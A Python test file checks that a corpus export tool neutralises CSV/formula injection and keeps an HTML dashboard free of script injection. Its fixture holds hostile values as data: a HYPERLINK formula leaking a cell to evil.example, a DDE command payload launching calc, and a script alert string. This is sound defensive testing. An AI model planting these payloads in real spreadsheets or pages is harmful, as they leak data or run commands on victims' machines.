"""``corpus --format csv``: no cell a spreadsheet would evaluate, whatever the articles and models say."""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
from pagetree import parse
from typer.testing import CliRunner

from llmextract.cli.app import app
from llmextract.corpus import build

from .results_fixture import MARTA_1, result, write_results

FORMULA = ("=", "+", "-", "@")
LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'
TEXT = (
    f'@SUM(1+1) said "{LINK}" on Monday. -Cmd Co said "+1 for the plan." '
    '@SUM(1+1) also said "<script>alert(1)</script> is fine."'
)
HOSTILE = result(
    "-2+3",
    TEXT,
    [("a1", "@SUM(1+1)", "person", ["=1+1"], "+Mayor"), ("a2", "-Cmd Co", "organization", ["\t=2"])],
    [
        ("q1", LINK, "a1", "direct"),
        ("q2", "+1 for the plan.", "a2", "direct"),
        ("q3", "<script>alert(1)</script> is fine.", "a1", "direct"),
    ],
    stances=[("a2", "a1", "oppose", "+1 for the plan.")],
    metadata={"date": "2023-04-03", "source": "=cmd|' /C calc'!A0", "url": "@http://evil.example/"},
)


def run_corpus(tmp_path: Path) -> Path:
    results = write_results(tmp_path / "r.jsonl", [MARTA_1, HOSTILE])
    out = tmp_path / "out"
    run = CliRunner().invoke(app, ["corpus", str(results), "-o", str(out), "--format", "csv"])
    assert run.exit_code == 0, run.output
    return out


def test_no_text_cell_of_any_table_starts_like_a_formula(tmp_path: Path) -> None:
    out = run_corpus(tmp_path)
    schemas = {name: table.schema for name, table in build([tmp_path / "r.jsonl"]).named().items()}
    seen: set[str] = set()
    for name, schema in schemas.items():
        with (out / f"{name}.csv").open(encoding="utf-8", newline="") as handle:
            header, *rows = list(csv.reader(handle))
        assert header == schema.names
        for row in rows:
            for field, cell in zip(schema, row, strict=True):
                if pa.types.is_integer(field.type) or pa.types.is_floating(field.type):
                    float(cell or 0)  # numbers stay numbers, a minus sign included
                    continue
                assert not cell.startswith((*FORMULA, "\t", "\r")), (name, field.name, cell)
                assert not cell.lstrip().startswith(FORMULA), (name, field.name, cell)
                seen.add(cell[1:] if cell.startswith("'") else cell)
    # the hostile values are all there, each behind one apostrophe
    assert {LINK, "+1 for the plan.", "@SUM(1+1)", "-Cmd Co", "-2+3", "=cmd|' /C calc'!A0"} <= seen
    assert any(cell.startswith("=1+1") for cell in seen)  # the alias list, joined


def test_parquet_keeps_the_values_as_they_are(tmp_path: Path) -> None:
    results = write_results(tmp_path / "r.jsonl", [HOSTILE])
    out = tmp_path / "out"
    assert CliRunner().invoke(app, ["corpus", str(results), "-o", str(out)]).exit_code == 0
    assert LINK in pq.read_table(out / "quotes.parquet").column("text").to_pylist()


def test_the_dashboard_of_the_same_results_keeps_them_as_text(tmp_path: Path) -> None:
    out = run_corpus(tmp_path)
    root, attrs = parse((out / "index.html").read_text(encoding="utf-8"))
    page = (out / "index.html").read_text(encoding="utf-8")
    assert "<script>alert(1)" not in page
    assert all(not s.attrs.get("src") for s in root.find_all("script"))
    assert not any(name.startswith("on") for _, name, _ in attrs)
    assert "@SUM(1+1)" in root.text  # shown, as text
